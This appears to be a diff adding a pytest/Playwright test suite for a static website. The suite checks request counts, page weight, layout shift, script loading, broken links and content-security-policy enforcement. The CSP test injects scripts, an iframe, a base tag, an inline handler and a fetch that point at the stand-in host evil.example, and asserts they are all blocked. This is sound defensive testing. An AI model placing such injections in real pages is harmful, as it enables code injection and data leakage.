@@ -1,0 +1,165 @@
+"""What a visit costs and what it may not do: requests, bytes, shifts, foreign code, dead ends."""
+
+from __future__ import annotations
+
+import gzip
+import re
+from pathlib import Path
+from typing import Any
+from urllib.parse import unquote, urljoin, urlsplit
+
+import lxml.html
+import pytest
+from playwright.sync_api import Page, Request
+
+from tests.browser.conftest import KINDS, visit
+
+pytestmark = pytest.mark.browser
+
+FLIGHT = 14_000
+"""Bytes that a fresh connection brings in its first round trip: ten packets, less their heads."""
+PICTURE = re.compile(r"\.(avif|webp|jpe?g|png|svg|ico)$")
+# Must run before the page's own content: shifts and refusals are told once.
+LISTEN = """
+  window.shift = 0; window.refused = [];
+  new PerformanceObserver(list => list.getEntries().forEach(e => { window.shift += e.value }))
+    .observe({type: 'layout-shift', buffered: true});
+  document.addEventListener('securitypolicyviolation',
+    e => window.refused.push(e.effectiveDirective));
+"""
+
+
+@pytest.mark.parametrize("kind", KINDS)
+def test_a_visit_asks_this_host_alone_little_and_in_silence(page: Page, site: str, kind: str):
+    asked: list[Request] = []
+    said: list[str] = []
+    page.on("request", lambda request: asked.append(request))
+    page.on("console", lambda message: said.append(message.text))
+    page.on("pageerror", lambda error: said.append(str(error)))
+    page.add_init_script(LISTEN)
+    visit(page, site, kind)
+    # To the very end and back, so that whatever waits for being seen has come.
+    page.evaluate("""async () => {
+      for (let y = 0; y < document.body.scrollHeight; y += innerHeight / 2) {
+        scrollTo(0, y); await new Promise(requestAnimationFrame);
+      }
+      scrollTo(0, 0);
+    }""")
+    page.wait_for_load_state("networkidle")
+    assert [r.url for r in asked if urlsplit(r.url).netloc != urlsplit(site).netloc] == []
+    # The tab's icon is a picture too, and asked for by the browser's own frame.
+    kinds = [r.resource_type for r in asked if not PICTURE.search(r.url)]
+    # The archive's search is the one page with a script of its own.
+    assert len(kinds) <= (4 if kind == "archives" else 3), kinds
+    if kind == "not found":
+        said = [text for text in said if "404" not in text]  # the status itself
+    assert said == []
+    assert page.evaluate("[window.shift, window.refused]") == [0, []]
+
+
+def test_no_page_needs_a_script_before_it_shows(built: Path):
+    for file in sorted(built.rglob("*.html")):
+        page = lxml.html.document_fromstring(file.read_bytes())
+        for script in page.xpath("//script[not(@type='application/ld+json')]"):
+            assert script.get("src"), file
+            assert "defer" in script.attrib or script.get("type") == "module", file
+
+
+def test_the_policy_refuses_whatever_is_not_this_hosts(page: Page, site: str):
+    reached: list[str] = []
+    page.route("https://evil.example/**", lambda route: (reached.append(route.request.url),
+                                                         route.abort()))  # fmt: skip
+    page.add_init_script(LISTEN)
+    visit(page, site, "article")
+    page.evaluate("""async () => {
+      const add = (tag, more, inside = document.body) =>
+        inside.append(Object.assign(document.createElement(tag), more));
+      window.done = [];
+      add('script', {textContent: 'window.done.push("inline")'});
+      add('script', {src: 'https://evil.example/a.js'});
+      add('img', {src: 'https://evil.example/a.png'});
+      add('iframe', {src: 'https://evil.example/'});
+      add('style', {textContent: 'body { --evil: 1 }'}, document.head);
+      add('link', {rel: 'stylesheet', href: 'https://evil.example/a.css'}, document.head);
+      add('base', {href: 'https://evil.example/'}, document.head);
+      const pressed = document.createElement('button');
+      pressed.setAttribute('onclick', 'window.done.push("handler")');
+      document.body.append(pressed);
+      pressed.click();
+      await fetch('https://evil.example/data').catch(() => {});
+      await new Promise(done => setTimeout(done, 200));
+    }""")
+    assert page.evaluate("window.done") == []
+    assert page.evaluate("getComputedStyle(document.body).getPropertyValue('--evil')") == ""
+    assert page.evaluate("document.baseURI").startswith(site)
+    assert reached == []
+    refused = set(page.evaluate("window.refused"))
+    assert {"script-src-elem", "script-src-attr", "img-src", "frame-src", "style-src-elem",
+            "base-uri", "connect-src"} <= refused  # fmt: skip
+
+
+def squeezed(file: Path) -> int:
+    return len(gzip.compress(file.read_bytes(), 9, mtime=0))
+
+
+def test_every_page_and_its_style_come_in_one_flight(built: Path):
+    style = squeezed(built / "theme/css/site.css")
+    heavy = {
+        file.relative_to(built).as_posix(): squeezed(file) + style
+        for file in built.rglob("*.html")
+        if squeezed(file) + style > FLIGHT
+    }
+    assert heavy == {}
+
+
+class Site:
+    """The files of a built site and where each of them leads."""
+
+    def __init__(self, output: Path) -> None:
+        self.output = output
+        self.pages: dict[str, Any] = {
+            "/" + file.relative_to(output).as_posix().removesuffix("index.html"): (
+                lxml.html.document_fromstring(file.read_bytes())
+            )
+            for file in sorted(output.rglob("*.html"))
+        }
+        self.home = next(
+            f"{parts.scheme}://{parts.netloc}"
+            for link in self.pages["/"].xpath("//link[@rel='canonical']/@href")
+            if (parts := urlsplit(link))
+        )
+
+    def links(self, at: str) -> list[str]:
+        """All addresses of one page that lead into this site, absolute, with their fragments."""
+        page = self.pages[at]
+        found = [str(link) for link in page.xpath("//@href | //@src | //@poster | //@action")]
+        for several in page.xpath("//@srcset"):
+            found += [part.split()[0] for part in several.split(",") if part.strip()]
+        found += [
+            str(meta.get("content"))
+            for meta in page.xpath("//meta[@property or @name]")
+            if (meta.get("content") or "").startswith(self.home)
+        ]
+        whole = (urljoin(self.home + at, link) for link in found)
+        return [link for link in whole if link.startswith(self.home + "/") or link == self.home]
+
+    def leads(self, link: str) -> bool:
+        """Whether a file, and the part of it that is named, is there."""
+        parts = urlsplit(link)
+        path = unquote(parts.path) or "/"
+        if path in self.pages:
+            name = unquote(parts.fragment)
+            return not name or bool(self.pages[path].xpath("//*[@id = $name]", name=name))
+        return not parts.fragment and (self.output / path.lstrip("/")).is_file()
+
+
+def test_no_link_and_no_anchor_of_any_file_is_broken(built: Path):
+    site = Site(built)
+    checked = 0
+    for at in site.pages:
+        links = site.links(at)
+        checked += len(links)
+        assert [link for link in links if not site.leads(link)] == [], at
+    assert checked > 1_000
+    assert not site.leads(f"{site.home}/nowhere/")
+    assert not site.leads(f"{site.home}/#no-such-part")
